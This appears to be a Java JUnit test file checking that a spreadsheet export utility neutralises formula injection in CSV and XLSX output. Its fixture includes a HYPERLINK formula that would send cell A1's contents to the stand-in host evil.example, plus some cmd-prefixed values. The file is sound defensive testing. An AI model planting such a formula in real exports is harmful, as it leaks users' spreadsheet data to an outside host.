package org.synergies.documents;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** What the application writes as CSV or XLSX is inert in a spreadsheet program. */
class SpreadsheetsTests {

	static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";

	private final Spreadsheets.Table table = new Spreadsheets.Table("data", List.of("text", "amount", "count"),
			rows -> {
				rows.accept(List.of(HYPERLINK, new BigDecimal("-12.50"), -3));
				rows.accept(List.of("+1", "-2", "@SUM(A1:A2)"));
				rows.accept(List.of("\tcmd", "\rcmd", "ordinary - text"));
			});

	@Test
	void csvCellsThatLookLikeFormulasAreQuotedButNumbersStayNumbers() throws Exception {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		Spreadsheets.csv(this.table, out);
		List<String> lines = out.toString(StandardCharsets.UTF_8).substring(1).lines().toList();

		assertThat(lines.get(1))
			.isEqualTo("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",-12.50,-3");
		assertThat(lines.get(2)).isEqualTo("'+1,'-2,'@SUM(A1:A2)");
		assertThat(out.toString(StandardCharsets.UTF_8)).contains("\r\n'\tcmd,\"'\rcmd\",ordinary - text\r\n");
	}

	@Test
	void neutralisingIsUndoneOnTheWayBack() {
		for (String text : List.of(HYPERLINK, "+1", "-2", "@x", "\tx", "\rx", "'quoted", "'=typed with a quote", "''-x",
				"plain", "'", "")) {
			assertThat(Spreadsheets.restored(Spreadsheets.neutralised(text))).isEqualTo(text);
		}
	}

	@Test
	void xlsxCellsAreTextOrNumbersNeverFormulas() throws Exception {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		Spreadsheets.xlsx(List.of(this.table), out);

		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
			Row first = workbook.getSheet("data").getRow(1);
			assertThat(first.getCell(0).getCellType()).isEqualTo(CellType.STRING);
			assertThat(first.getCell(0).getStringCellValue()).isEqualTo(HYPERLINK);
			assertThat(first.getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
			assertThat(first.getCell(1).getNumericCellValue()).isEqualTo(-12.5);
			assertThat(workbook.getSheet("data").getRow(2).getCell(2).getCellType()).isEqualTo(CellType.STRING);
		}
	}

}
